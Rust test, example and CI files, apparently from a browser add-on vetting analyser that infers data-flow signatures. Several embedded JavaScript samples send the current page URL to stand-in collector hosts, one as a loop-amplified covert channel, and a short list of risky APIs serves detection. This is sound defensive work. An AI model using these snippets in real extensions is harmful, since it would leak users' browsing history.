        6 => format!("while (Math.random() < 0.5) {{ a = {e}; }}"),
        7 => format!("for (var i = 0; i < 3; i++) {{ if (i == 1) continue; b = {e}; }}"),
        8 => format!("try {{ o.p = {e}; }} catch (err) {{ b = err; }}"),
        9 => format!("switch ({e}) {{ case 1: a = 1; break; default: b = 2; }}"),
        10 => "for (var key in o) { use(o[key]); }".to_owned(),
        _ => format!("setTimeout(function () {{ a = {e}; }}, 100);"),
    }
}

fn arb_program(g: &mut Gen) -> String {
    let mut src = String::from(
        "var a = 0; var b = 0; var k = \"p\"; var o = { p: 1, q: 2 };\n\
         function use(v) { return v; }\n",
    );
    if g.bool() {
        src.push_str("function helper(v) { if (v) { return v; } return \"none\"; }\n");
    } else {
        src.push_str("var helper = function (v) { return use(v); };\n");
    }
    let with_xhr = g.bool();
    if with_xhr {
        src.push_str(
            "var req = new XMLHttpRequest();\n\
             req.open(\"GET\", \"http://fuzz.example.com/api?x=\" + a);\n\
             req.send(null);\n",
        );
    }
    for _ in 0..1 + g.below(9) {
        src.push_str(&arb_stmt(g));
        src.push('\n');
    }
    src
}

#[test]
fn pipeline_total_on_generated_programs() {
    minicheck::check("pipeline_total_on_generated_programs", 48, |g| {
        let src = arb_program(g);
        let report = addon_sig::analyze_addon(&src)
            .unwrap_or_else(|e| panic!("pipeline failed: {e}\nprogram:\n{src}"));

        // Internal consistency: every PDG edge endpoint is a valid
        // statement, annotations render, the signature prints.
        let nstmts = report.lowered.program.stmt_count() as u32;
        for e in report.pdg.edges() {
            assert!(e.from.0 < nstmts);
            assert!(e.to.0 < nstmts);
            let _ = e.ann.to_string();
        }
        let _ = report.signature.to_string();
        let _ = report.signature.to_json();

        // Read/write sets only mention reachable statements... (they may
        // also mention call-result attribution nodes; all must be valid.)
        for stmt in report.analysis.rw.keys() {
            assert!(stmt.0 < nstmts);
        }

        // The XHR block, when present, must yield a send sink with the
        // fuzz domain prefix.
        if src.contains("fuzz.example.com") {
            let found = report.analysis.sinks.iter().any(|s| {
                s.domain
                    .known_text()
                    .is_some_and(|t| t.starts_with("http://fuzz.example.com"))
            });
            assert!(found, "expected fuzz sink in:\n{src}");
        }
    });
}

/// Arbitrary (often non-UTF8-boundary-hostile, control-char-laden) text
/// for the lexer/parser totality checks.
fn arb_soup(g: &mut Gen) -> String {
    let len = g.below(60);
    (0..len)
        .map(|_| {
            // Mix printable ASCII, whitespace, and arbitrary unicode.
            match g.below(4) {
                0 => char::from_u32(0x20 + g.below(0x5f) as u32).unwrap(),
                1 => *g.pick(&['\n', '\t', '\r', ' ']),
                2 => char::from_u32(g.below(0xd7ff) as u32).unwrap_or('\u{fffd}'),
                _ => *g.pick(&['"', '\\', '{', '}', '(', ')', ';', '/', '*']),
            }
        })
        .collect()
}

#[test]
fn lexer_never_panics() {
    minicheck::check("lexer_never_panics", 256, |g| {
        let _ = jsparser::lex(&arb_soup(g));
    });
}

#[test]
fn parser_never_panics() {
    minicheck::check("parser_never_panics", 256, |g| {
        let _ = jsparser::parse(&arb_soup(g));
    });
}

#[test]
fn parser_total_on_token_soup() {
    const TOKENS: &[&str] = &[
        "var", "x", "=", "1", ";", "{", "}", "(", ")", "if", "else", "function", "+", "return",
        "while", "for", "try", "catch", "\"s\"", ",", ".", "o", "[", "]", "throw", "new", "!",
        "==",
    ];
    minicheck::check("parser_total_on_token_soup", 256, |g| {
        let n = g.below(40);
        let src = (0..n)
            .map(|_| *g.pick(TOKENS))
            .collect::<Vec<_>>()
            .join(" ");
        let _ = jsparser::parse(&src);
    });
}
