//! Fleet integration tests on the real pipeline: a worker killed
//! mid-job must cost latency, not correctness — and the per-node event
//! logs, including the dead worker's truncated one, must merge into a
//! single log that replays as valid job lifecycles.

use addon_sig::sigfleet::{protocol, Coordinator, FleetConfig, Worker, WorkerConfig};
use addon_sig::sigobs::{self, replay::Outcome};
use addon_sig::sigserve::Client;
use minijson::Json;
use std::sync::Arc;
use std::time::{Duration, Instant};

fn fast_cfg(log: Arc<sigobs::EventLog>) -> FleetConfig {
    FleetConfig {
        heartbeat: Duration::from_millis(50),
        reap_after: Duration::from_millis(250),
        log: Some(log),
        ..FleetConfig::default()
    }
}

fn mem_log() -> Arc<sigobs::EventLog> {
    Arc::new(sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(4096))
}

fn fleet_stat(coord: &Coordinator, name: &str) -> f64 {
    coord.stats()["fleet"][name].as_f64().unwrap_or(-1.0)
}

/// Kill a worker mid-job. The client must still get the correct
/// verdict (via reap + requeue + a healthy worker), and the merged
/// per-node logs — coordinator, the dead worker's *truncated* log, and
/// the rescuer's — must replay as one valid lifecycle per job.
#[test]
fn worker_kill_loses_no_jobs_and_merged_log_replays() {
    const SOURCE: &str = "var held = 'hostage'; var out = held + '!';";
    let coord_log = mem_log();
    let coord = Coordinator::bind("127.0.0.1:0", fast_cfg(coord_log.clone())).expect("bind");
    let addr = coord.local_addr().to_string();

    // Client submits; no worker exists yet, so the job waits in queue.
    let submit_addr = addr.clone();
    let submitter = std::thread::spawn(move || {
        let mut c = Client::connect(submit_addr.as_str()).expect("connect");
        c.vet_source(Some("held.js"), SOURCE).expect("vet")
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    while fleet_stat(&coord, "pending") < 1.0 {
        assert!(Instant::now() < deadline, "job never enqueued");
        std::thread::sleep(Duration::from_millis(5));
    }

    // A protocol-level worker claims the job and dies mid-analysis: it
    // logged the dequeue, was SIGKILLed mid-write of the next record,
    // and never completed or heartbeat again.
    let doomed_log = {
        let mut doomed = Client::connect(addr.as_str()).expect("connect doomed");
        let ack = doomed.request(&protocol::join_request("doomed")).expect("join");
        assert_eq!(ack["kind"], "join_ack");
        let wid = ack["worker"].as_str().expect("worker id").to_owned();
        let job = doomed
            .request(&protocol::claim_request(&wid, 2_000))
            .expect("claim");
        assert_eq!(job["kind"], "job", "doomed worker must claim the job");
        let job_id = job["job"].as_str().expect("job id").to_owned();
        format!(
            "{{\"seq\":0,\"ts_us\":10,\"level\":\"info\",\"event\":\"job_dequeued\",\
             \"job\":\"{job_id}\"}}\n{{\"seq\":1,\"ts_us\":20,\"event\":\"job_compu"
        )
    }; // connection dropped: claimed but never completed

    // The reaper notices the missed heartbeats and requeues.
    while fleet_stat(&coord, "jobs_requeued") < 1.0 {
        assert!(Instant::now() < deadline, "reaper never requeued");
        std::thread::sleep(Duration::from_millis(10));
    }

    // A healthy worker (real pipeline) joins and rescues the job.
    let worker_log = mem_log();
    let mut wc = WorkerConfig::new(addr.clone());
    wc.node = "rescue".to_owned();
    wc.threads = 1;
    wc.claim_wait_ms = 100;
    wc.log = Some(worker_log.clone());
    let worker = Worker::join_fleet(wc, addon_sig::service_engine_traced).expect("join");

    let resp = submitter.join().expect("submitter");
    assert_eq!(resp["verdict"], "ok", "requeued job must still vet");
    let cold = addon_sig::analyze_addon(SOURCE).expect("cold analysis");
    assert_eq!(
        resp["signature"].to_string(),
        Json::parse(&cold.signature.to_json()).unwrap().to_string(),
        "rescued job must carry the exact cold signature"
    );
    assert_eq!(fleet_stat(&coord, "workers_reaped"), 1.0);

    let mut shut = Client::connect(addr.as_str()).expect("connect");
    assert_eq!(shut.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    coord.join();
    worker.join();

    // Merge all three logs — the doomed one ends in a half-written
    // line, which the merge must tolerate — and replay the result.
    coord_log.flush();
    worker_log.flush();
    let coord_text = coord_log.tail_lines().join("\n");
    let worker_text = worker_log.tail_lines().join("\n");
    let merged = sigobs::merge_fleet_logs(&[
        ("coord", coord_text.as_str()),
        ("doomed", doomed_log.as_str()),
        ("rescue", worker_text.as_str()),
    ])
    .expect("merge tolerates the truncated log");
    let replay = sigobs::replay::replay_log(&merged).expect("merged log replays");
    let computed = replay
        .timelines
        .values()
        .filter(|t| t.validate() == Ok(Outcome::Computed))
        .count();
    assert_eq!(computed, 1, "exactly one computed lifecycle");
    assert_eq!(replay.presumed_rejected, 0, "no orphaned enqueues");
    // Both dequeue records (dead claimant + rescuer) survive the merge.
    let dequeues = merged
        .lines()
        .filter(|l| l.contains("\"job_dequeued\""))
        .count();
    assert_eq!(dequeues, 2, "both claimants' dequeues are in the merged log");
}

/// Multi-node fleet responses carry byte-identical signatures to a
/// cold local analysis — sharding and the shared store never change
/// the bytes a client sees.
#[test]
fn fleet_signatures_match_cold_analysis() {
    let coord = Coordinator::bind(
        "127.0.0.1:0",
        FleetConfig {
            slots: 4,
            ..FleetConfig::default()
        },
    )
    .expect("bind");
    let addr = coord.local_addr().to_string();
    let workers: Vec<Worker> = (0..2)
        .map(|i| {
            let mut wc = WorkerConfig::new(addr.clone());
            wc.node = format!("node-{i}");
            wc.threads = 1;
            wc.claim_wait_ms = 100;
            Worker::join_fleet(wc, addon_sig::service_engine_traced).expect("join")
        })
        .collect();
    let mut client = Client::connect(addr.as_str()).expect("connect");
    for addon in corpus::addons().iter().take(3) {
        let resp = client.vet_source(Some(addon.name), addon.source).expect("vet");
        assert_eq!(resp["verdict"], "ok", "{}", addon.name);
        let cold = addon_sig::analyze_addon(addon.source).expect("cold");
        assert_eq!(
            resp["signature"].to_string(),
            Json::parse(&cold.signature.to_json()).unwrap().to_string(),
            "{}: fleet bytes must match the cold analysis",
            addon.name
        );
    }
    let mut shut = Client::connect(addr.as_str()).expect("connect");
    assert_eq!(shut.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    coord.join();
    for w in workers {
        w.join();
    }
}
