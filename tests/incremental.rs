//! Golden-identity tests for incremental re-vetting: a pipeline run
//! through a per-function summary store — warm, evicted, or corrupted —
//! must produce bit-identical signatures to a cold run of the same
//! source. The store is a pure accelerator; it is never allowed to
//! change an answer.

use addon_sig::Pipeline;
use jsanalysis::{DiskSummaryStore, MemorySummaryStore, SummaryStore};
use std::path::PathBuf;
use std::sync::Arc;

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "addon_sig_incr_{}_{name}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn cold(source: &str) -> addon_sig::Report {
    Pipeline::new().run(source).expect("cold pipeline")
}

fn warm(source: &str, store: &Arc<dyn SummaryStore>) -> addon_sig::Report {
    Pipeline::new()
        .summary_store(Arc::clone(store))
        .run(source)
        .expect("warm pipeline")
}

/// The edit sequence each corpus addon is replayed through: identical
/// resubmission, a top-level one-liner (conservatively invalidates
/// everything whose entry state sees the top-level frame), and a new
/// trailing function.
fn edits(source: &str) -> Vec<(&'static str, String)> {
    vec![
        ("resubmit", source.to_owned()),
        (
            "toplevel_edit",
            format!("{source}\nvar __incrTestEdit = 1;\n"),
        ),
        (
            "new_function",
            format!("{source}\nfunction __incrTestProbe(x) {{ return x + 1; }}\n"),
        ),
    ]
}

/// Asserts that vetting `source` through `store` (already populated or
/// not) gives exactly the cold answer, and returns the warm stats.
fn assert_identical(
    name: &str,
    label: &str,
    source: &str,
    store: &Arc<dyn SummaryStore>,
) -> jsanalysis::IncrementalStats {
    let cold_report = cold(source);
    let warm_report = warm(source, store);
    assert_eq!(
        warm_report.signature.to_json(),
        cold_report.signature.to_json(),
        "{name}/{label}: warm signature must be bit-identical to cold"
    );
    let stats = warm_report
        .incremental
        .expect("store-attached run reports incremental stats");
    assert!(
        stats.functions_reanalyzed <= stats.total_functions,
        "{name}/{label}: reanalyzed {} of {} functions",
        stats.functions_reanalyzed,
        stats.total_functions
    );
    stats
}

#[test]
fn corpus_cold_vs_memory_store_identical_across_edit_sequences() {
    for addon in corpus::addons() {
        let store: Arc<dyn SummaryStore> = Arc::new(MemorySummaryStore::new(4096));
        // Populate, then replay the whole edit sequence through the
        // same store — each warm answer must match its own cold run.
        let populate = warm(addon.source, &store);
        assert!(populate.incremental.is_some());
        for (label, edited) in edits(addon.source) {
            let stats = assert_identical(addon.name, label, &edited, &store);
            if label == "resubmit" && stats.total_functions > 1 {
                assert!(
                    stats.functions_reanalyzed < stats.total_functions,
                    "{}: resubmission must splice at least one function \
                     ({} of {} re-analyzed)",
                    addon.name,
                    stats.functions_reanalyzed,
                    stats.total_functions
                );
            }
        }
    }
}

#[test]
fn corpus_cold_vs_disk_store_identical() {
    let dir = temp_dir("disk_golden");
    let store: Arc<dyn SummaryStore> =
        Arc::new(DiskSummaryStore::new(&dir, 4096).expect("disk store"));
    for addon in corpus::addons() {
        let _ = warm(addon.source, &store);
        let stats = assert_identical(addon.name, "disk_resubmit", addon.source, &store);
        if stats.total_functions > 1 {
            assert!(stats.summary_hits > 0, "{}: disk store must hit", addon.name);
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn single_function_edit_splices_through_disk_store() {
    // The headline scenario: a one-line patch of a dead literal in one
    // function of a many-function addon re-analyzes only that function
    // (plus the top level, which never splices).
    let mut base = String::new();
    for i in 0..6 {
        base.push_str(&format!(
            "function worker{i}(seed) {{\n  var probe = 'probe-{i}';\n  \
             var tag = 'worker-{i}';\n  var body = tag + ':' + seed;\n  \
             return body + '#' + tag;\n}}\n"
        ));
    }
    for i in 0..6 {
        base.push_str(&format!("worker{i}({});\n", i % 2));
    }
    let edited = base.replace("'probe-2'", "'probe-2-patched'");
    assert_ne!(base, edited);

    let dir = temp_dir("one_line_patch");
    let store: Arc<dyn SummaryStore> =
        Arc::new(DiskSummaryStore::new(&dir, 4096).expect("disk store"));
    let _ = warm(&base, &store);
    let stats = assert_identical("synthetic", "dead_literal_patch", &edited, &store);
    assert_eq!(stats.summary_hits, 5, "five untouched workers splice");
    assert_eq!(
        stats.functions_reanalyzed, 2,
        "only the patched worker and the top level re-analyze"
    );
    assert_eq!(stats.abandoned, 0);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn eviction_only_costs_speed_never_identity() {
    // A store whose capacity is far below the corpus' function count
    // keeps evicting; warm runs mostly miss but answers never change.
    let dir = temp_dir("eviction");
    let store: Arc<dyn SummaryStore> =
        Arc::new(DiskSummaryStore::new(&dir, 2).expect("disk store"));
    for addon in corpus::addons().iter().take(4) {
        let _ = warm(addon.source, &store);
        let _ = assert_identical(addon.name, "evicted", addon.source, &store);
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn corrupted_store_files_read_as_misses_never_wrong_signatures() {
    let dir = temp_dir("corruption");
    let addon = &corpus::addons()[0];
    {
        let store: Arc<dyn SummaryStore> =
            Arc::new(DiskSummaryStore::new(&dir, 4096).expect("disk store"));
        let _ = warm(addon.source, &store);
    }
    // Vandalize every persisted entry three ways: truncate to zero,
    // truncate mid-record, and overwrite with garbage; also drop a
    // non-summary file into the directory.
    let mut victims: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("store dir")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.is_file())
        .collect();
    victims.sort();
    assert!(!victims.is_empty(), "populate must persist summaries");
    for (i, path) in victims.iter().enumerate() {
        match i % 3 {
            0 => std::fs::write(path, b"").expect("truncate"),
            1 => {
                let bytes = std::fs::read(path).expect("read entry");
                std::fs::write(path, &bytes[..bytes.len() / 2]).expect("truncate half");
            }
            _ => std::fs::write(path, b"{not json at all").expect("garbage"),
        }
    }
    std::fs::write(dir.join("stray.txt"), b"not a summary").expect("stray file");

    // Reopen over the vandalized directory: every lookup must degrade to
    // a miss (or an unusable entry), and the signature must still be the
    // cold one. No panics, no wrong answers.
    let store: Arc<dyn SummaryStore> =
        Arc::new(DiskSummaryStore::new(&dir, 4096).expect("reopen store"));
    let stats = assert_identical(addon.name, "corrupted", addon.source, &store);
    assert_eq!(
        stats.summary_hits, 0,
        "corrupted entries must never be spliced"
    );

    // And the store must recover: the corrupted-run repopulation makes
    // the next resubmission splice again.
    let stats = assert_identical(addon.name, "recovered", addon.source, &store);
    if stats.total_functions > 1 {
        assert!(stats.summary_hits > 0, "store must recover after corruption");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn corpus_snapshot_through_store_is_byte_identical_and_drift_free() {
    // The ISSUE's stated oracle: the drift observatory. A corpus
    // snapshot taken through the summary store — populating on the
    // first pass, splicing on the second — must be byte-identical to a
    // cold snapshot (the order-independent counter subset is derived
    // from the final analysis result, which splicing preserves) and
    // `corpus-diff` must classify zero drift.
    let config = jsanalysis::AnalysisConfig::default();
    let cold_snap = addon_sig::drift::snapshot_corpus(&config);
    let store: Arc<dyn SummaryStore> = Arc::new(MemorySummaryStore::new(4096));
    let populate = addon_sig::drift::snapshot_corpus_with_store(&config, Some(&store));
    let warm = addon_sig::drift::snapshot_corpus_with_store(&config, Some(&store));
    assert_eq!(
        cold_snap.to_string_pretty(),
        populate.to_string_pretty(),
        "populating pass must not change the snapshot"
    );
    assert_eq!(
        cold_snap.to_string_pretty(),
        warm.to_string_pretty(),
        "spliced pass must be byte-identical to cold"
    );
    let report = addon_sig::drift::diff_snapshots(&cold_snap, &warm).expect("diff");
    assert!(!report.has_signature_drift(), "store must cause zero drift");
}
