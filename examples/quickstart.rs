//! Quickstart: infer the security signature of a small addon.
//!
//! Run with: `cargo run --example quickstart`

use addon_sig::analyze_addon;

fn main() -> Result<(), addon_sig::Error> {
    // A tiny addon that reports the user's current URL to a ranking
    // service -- the paper's motivating example (LivePageRank-style).
    let source = r#"
var RANK_SERVICE = "http://toolbarqueries.example.com/rank?q=";

function fetchRank() {
  var url = content.location.href;
  var req = new XMLHttpRequest();
  req.open("GET", RANK_SERVICE + encodeURIComponent(url), true);
  req.onload = function () {
    if (req.status == 200) {
      updateBadge(req.responseText);
    }
  };
  req.send(null);
}

function updateBadge(rank) {
  var badge = document.getElementById("rank-badge");
  if (badge) {
    badge.value = rank;
  }
}

gBrowser.addEventListener("load", fetchRank, true);
"#;

    let report = analyze_addon(source)?;

    println!("Inferred security signature:");
    println!("{}", report.signature);
    println!(
        "(analysis: {} worklist steps; PDG: {} edges; phases P1={:?} P2={:?} P3={:?})",
        report.analysis.steps,
        report.pdg.edge_count(),
        report.timings.p1,
        report.timings.p2,
        report.timings.p3,
    );

    // The vetter reads the signature and compares it with the addon's
    // stated purpose: "displays the rank of the current page" -- so an
    // explicit url -> network flow to the ranking service is expected.
    for entry in &report.signature.flows {
        println!("flow: {entry}");
        if let Some(witnesses) = report.signature.witnesses.get(entry) {
            for (src, sink) in witnesses {
                println!("  witnessed from {src} to {sink}");
            }
        }
    }
    Ok(())
}
