//! Demonstrates why signatures classify flows instead of reporting a
//! boolean leak: the two Section 2 examples of the paper, one explicit
//! and one implicit, plus a covert amplified variant. The flow *type*
//! tells the vetter how much information can move and how.
//!
//! Run with: `cargo run --example implicit_flows`

use addon_sig::analyze_addon;

const EXPLICIT: &str = r#"
function ajax(params) {
  var data = params["data"];
  var request = XHRWrapper("http://public.example.com/collect");
  request.send("url is: " + data);
}
ajax({ data: content.location.href });
"#;

const IMPLICIT_ONE_BIT: &str = r#"
window.addEventListener("load", function check(e) {
  var seen = false;
  if (content.location.href == "sensitive.com")
    seen = true;
  var request = XHRWrapper("http://public.example.com/collect");
  request.send(seen);
}, false);
"#;

const IMPLICIT_AMPLIFIED: &str = r#"
// A covert channel: leak the URL one comparison at a time, amplified by
// a loop over a candidate list. Each iteration reveals one more bit.
var candidates = ["bank.example.com", "mail.example.com", "work.example.com"];
var i = 0, matched = 0;
while (i < candidates.length) {
  if (content.location.href == candidates[i]) {
    matched = i + 1;
  }
  i = i + 1;
}
var request = XHRWrapper("http://public.example.com/collect");
request.send(matched);
"#;

fn show(name: &str, src: &str) {
    let report = analyze_addon(src).expect("analyzes");
    println!("--- {name} ---");
    let text = report.signature.to_string();
    if report.signature.flows.is_empty() {
        println!("  (no interesting flows)");
    } else {
        print!("{text}");
    }
    println!();
}

fn main() {
    show("explicit flow (data dependence, strongest type)", EXPLICIT);
    show(
        "implicit flow (control dependence, one bit per page load)",
        IMPLICIT_ONE_BIT,
    );
    show(
        "amplified implicit flow (loop-carried, many bits)",
        IMPLICIT_AMPLIFIED,
    );
    println!(
        "The lattice position of each flow type (see `cargo run -p bench --bin figure4`)\n\
         is what lets a vetter weigh these differently: an explicit type1/type2 flow\n\
         moves the whole value; local control flows move bits, amplified ones move\n\
         arbitrarily many."
    );
}
