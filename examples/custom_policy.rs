//! The paper emphasizes that both the interesting-source set and the
//! flow-type lattice are configurable ("the lattice is independently
//! configurable to accommodate changes in perceived strength"). This
//! example vets one addon under two policies:
//!
//! 1. the default (paper) configuration, and
//! 2. a stricter two-point lattice ("explicit" vs "any") with a reduced
//!    source set, the kind of quick triage policy a repository might run
//!    on every submission before queueing for human review.
//!
//! Run with: `cargo run --example custom_policy`

use addon_sig::Pipeline;
use jsanalysis::{AnalysisConfig, SourceKind};
use jspdg::Annotation;
use jssig::{FlowLattice, FlowTypeSpec};

const ADDON: &str = r#"
window.addEventListener("load", function (e) {
  var here = content.location.href;
  if (here != "about:blank") {
    var req = new XMLHttpRequest();
    req.open("GET", "http://stats.example.net/hit?page=" + encodeURIComponent(here), true);
    req.send(null);
  }
}, false);
"#;

fn main() -> Result<(), addon_sig::Error> {
    // Policy 1: the paper's defaults.
    let report = Pipeline::new().run(ADDON)?;
    println!("paper lattice:\n{}", report.signature);

    // Policy 2: a two-point triage lattice -- every flow is either
    // "explicit" (pure data dependence) or "covert" (anything else) --
    // and only the URL is interesting.
    let config = AnalysisConfig::default().with_sources([SourceKind::Url]);
    let triage = FlowLattice::from_specs(vec![
        FlowTypeSpec {
            name: "explicit".into(),
            allowed: [Annotation::DataStrong, Annotation::DataWeak]
                .into_iter()
                .collect(),
        },
        FlowTypeSpec {
            name: "covert".into(),
            allowed: Annotation::ALL.into_iter().collect(),
        },
    ]);
    let report = Pipeline::new().config(config).lattice(triage).run(ADDON)?;
    println!("triage lattice (type1=explicit, type2=covert):\n{}", report.signature);
    Ok(())
}
