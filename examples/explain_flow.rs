//! Explaining a signature entry to the vetter: reconstruct a concrete
//! dependence path (witness) from source to sink, print the statements
//! involved (a PDG chop), and emit a Graphviz rendering -- the tooling
//! Figure 2 of the paper is a hand-drawn instance of.
//!
//! Run with: `cargo run --example explain_flow`

use addon_sig::analyze_addon;
use jspdg::{chop, pdg_to_dot, witness_path, SliceFilter};

const ADDON: &str = r#"
function report() {
  var url = content.location.href;
  var interesting = false;
  if (url != "about:blank") {
    interesting = true;
  }
  if (interesting) {
    var req = new XMLHttpRequest();
    req.open("GET", "http://phone-home.example.com/beacon", true);
    req.send(null);
  }
}
gBrowser.addEventListener("load", report, true);
"#;

fn main() {
    let report = analyze_addon(ADDON).expect("analyzes");
    println!("signature:\n{}", report.signature);

    // Find the source statement (URL read) and the sink (send call).
    let source = *report
        .analysis
        .source_stmts()
        .iter()
        .find(|(_, kinds)| kinds.contains(&jsanalysis::SourceKind::Url))
        .map(|(s, _)| s)
        .expect("url source");
    let sink = report
        .analysis
        .sinks
        .iter()
        .find(|s| s.kind == jsanalysis::SinkKind::Send)
        .expect("send sink")
        .stmt;

    // The witness path, hop by hop, with edge annotations.
    println!("witness path (source line -> ... -> sink line):");
    let path = witness_path(&report.pdg, source, sink, SliceFilter::All)
        .expect("signature implies a path");
    for (stmt, ann) in &path {
        let line = report.lowered.program.stmt(*stmt).span.line;
        let text = jsir::pretty::stmt_to_string(&report.lowered.program, *stmt);
        match ann {
            Some(a) => println!("  L{line:<3} {text}\n        --[{a}]-->"),
            None => println!("  L{line:<3} {text}"),
        }
    }

    // The chop: everything on any dependence path between the two.
    let chopped = chop(&report.pdg, source, sink, SliceFilter::All);
    let mut lines: Vec<u32> = chopped
        .iter()
        .map(|s| report.lowered.program.stmt(*s).span.line)
        .collect();
    lines.sort_unstable();
    lines.dedup();
    println!("\nsource lines involved in the flow: {lines:?}");

    // Graphviz rendering for the reviewer.
    let dot = pdg_to_dot(&report.lowered.program, &report.pdg);
    println!(
        "\nPDG has {} edges; DOT rendering is {} bytes \
         (pipe to `dot -Tsvg` to view).",
        report.pdg.edge_count(),
        dot.len()
    );
}
