//! A repository vetting queue: what an addons.mozilla.org reviewer's
//! tooling would look like built on signature inference (the paper's
//! motivating use case). Runs the whole benchmark corpus, compares each
//! inferred signature against the manual signature derived from the
//! addon's listed purpose, and prints an actionable review report.
//!
//! Run with: `cargo run --release --example vetting_queue`

use addon_sig::analyze_addon;
use jssig::{compare, MatchQuality, Verdict};

fn main() {
    let mut accepted = 0;
    let mut flagged = 0;
    for addon in corpus::addons() {
        println!("==============================================================");
        println!("addon: {} -- \"{}\"", addon.name, addon.listed_purpose);
        let report = match analyze_addon(addon.source) {
            Ok(r) => r,
            Err(e) => {
                println!("  REJECT: does not analyze ({e})");
                flagged += 1;
                continue;
            }
        };
        println!("  inferred signature:\n{}", indent(&report.signature.to_string()));

        let cmp = compare(
            &report.signature,
            &addon.manual,
            addon.real_extra_flow,
            addon.real_extra_sink,
        );
        match cmp.verdict {
            Verdict::Pass => {
                accepted += 1;
                println!("  VERDICT: pass -- behavior matches the listed purpose");
            }
            Verdict::Fail => {
                flagged += 1;
                println!("  VERDICT: fail -- needs human review (analysis imprecision)");
                for (i, e, q) in &cmp.matched {
                    if *q == MatchQuality::ImpreciseDomain {
                        println!(
                            "    expected {} but the domain could only be inferred as {}",
                            addon.manual.entries[*i], e.sink.domain
                        );
                    }
                }
            }
            Verdict::Leak => {
                flagged += 1;
                println!("  VERDICT: leak -- undocumented flows, ask the developer");
                for (e, real) in &cmp.extra {
                    println!(
                        "    undocumented flow: {e}{}",
                        if *real { " (confirmed real)" } else { "" }
                    );
                }
                for (s, real) in &cmp.extra_sinks {
                    println!(
                        "    undocumented communication: {s}{}",
                        if *real { " (confirmed real)" } else { "" }
                    );
                }
            }
        }
        if !report.signature.apis.is_empty() {
            println!("  restricted APIs used: {:?}", report.signature.apis);
        }
    }
    println!("==============================================================");
    println!("queue done: {accepted} accepted automatically, {flagged} flagged for review");

    // The attack gallery: every known-malicious sample must be flagged.
    println!("\n--- attack gallery ---");
    for attack in corpus::attacks::attacks() {
        let report = analyze_addon(attack.source).expect("attacks analyze");
        let exposed = !report.signature.flows.is_empty()
            || report.signature.apis.iter().any(|a| {
                a == "eval" || a == "Function" || a == "setTimeout$string"
                    || a == "Services.scriptloader.loadSubScript"
            });
        println!(
            "  {:<20} {} -- {}",
            attack.name,
            if exposed { "EXPOSED" } else { "missed!" },
            attack.description
        );
    }
}

fn indent(s: &str) -> String {
    s.lines()
        .map(|l| format!("    {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}
