#!/bin/sh
# CI gate. Everything runs offline (the workspace has no external
# dependencies); any failure fails the script.
#
#   1. tier-1: release build + tests of the root package,
#   2. the full workspace test suite (includes tests/worklist_golden.rs,
#      whose step-budget table fails the build on base-analysis
#      step-count regressions),
#   3. a perf snapshot over the corpus, so the committed
#      BENCH_pipeline.json can be refreshed from the CI artifact,
#   4. a vetting-daemon smoke test over --stdio (no network needed) plus
#      the serve_load --check invariants (cache actually hits, cached
#      vets are >=10x faster than cold).
set -eu
cd "$(dirname "$0")"

echo "==> tier-1: release build (offline)"
cargo build --release --offline

echo "==> tier-1: root package tests (offline)"
cargo test --offline -q

echo "==> workspace tests (incl. worklist golden + step budgets)"
cargo test --offline --workspace -q

echo "==> perf snapshot (sequential, 3 runs)"
cargo build --release --offline --workspace
./target/release/perf_snapshot --runs 3 --sequential --out target/BENCH_pipeline.ci.json

echo "==> sigserve smoke test (stdio daemon: vet, stats, shutdown)"
serve_out=$(printf '%s\n' \
    '{"kind":"vet","path":"crates/corpus/addons/pinpoints.js"}' \
    '{"kind":"stats"}' \
    '{"kind":"shutdown"}' \
    | ./target/release/vet serve --stdio --workers 2)
echo "$serve_out" | grep -q '"verdict":"ok"'
echo "$serve_out" | grep -q '"kind":"stats"'
echo "$serve_out" | grep -q '"kind":"shutdown_ack"'

echo "==> sigserve load sanity (serve_load --check)"
./target/release/serve_load --check

echo "==> ci.sh: all gates passed"
