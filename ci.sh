#!/bin/sh
# CI gate. Everything runs offline (the workspace has no external
# dependencies); any failure fails the script.
#
#   1. tier-1: release build + tests of the root package,
#   2. the full workspace test suite (includes tests/worklist_golden.rs,
#      whose step-budget table fails the build on base-analysis
#      step-count regressions), plus the bounded deterministic fuzz
#      suite (tests/fuzz_pipeline.rs behind `--features fuzz`: seeded
#      generator, fixed case counts, so CI time stays bounded),
#   3. a perf snapshot over the corpus, so the committed
#      BENCH_pipeline.json can be refreshed from the CI artifact — the
#      snapshot itself enforces the <5% no-op tracer and <5%
#      cost-attribution overhead gates —
#      plus the incremental bench, whose run fails unless every warm
#      signature is bit-identical to cold and a single-function edit
#      on the synthetic addon re-steps <20% of the cold fixpoint,
#   4. a `vet --trace` smoke test: the emitted chrome://tracing JSON
#      must parse and keep strict span nesting (trace_check), plus a
#      `vet profile` smoke: two runs of the hotspot table must be
#      byte-identical,
#   5. a vetting-daemon smoke test over --stdio (no network needed) plus
#      the serve_load --check invariants (cache actually hits, cached
#      vets are >=10x faster than cold, the structured event log —
#      running under overload sampling — replays into consistent
#      per-job lifecycles, and kept + suppressed job_rejected records
#      reconcile exactly with the daemon's shed count); the stats
#      response must carry the metrics registry,
#   6. a metrics-exposition smoke test: a scripted --stdio session's
#      `metrics` response must render valid Prometheus text (prom_check),
#   7. the corpus drift gate: two same-analyzer `vet corpus-snapshot`
#      runs must be byte-identical and `vet corpus-diff` must report
#      zero drift (exit 0) — the cross-run observability contract,
#   8. the health gate: a sampled --stdio session records a metrics
#      history, then `vet metrics-report --gate` must pass the
#      known-good rules (exit 0), pass the cost-attribution rules
#      (queue-wait and analyze p99 bounds), and fail the
#      known-violating rules (exit nonzero) — the alerting contract,
#   9. the incremental re-vetting gate: a cold `vet --summary-dir` on a
#      many-function addon, a scripted one-line edit, then a warm
#      re-vet — the store must splice every untouched function
#      (re-analyzing strictly fewer than all of them) and the warm
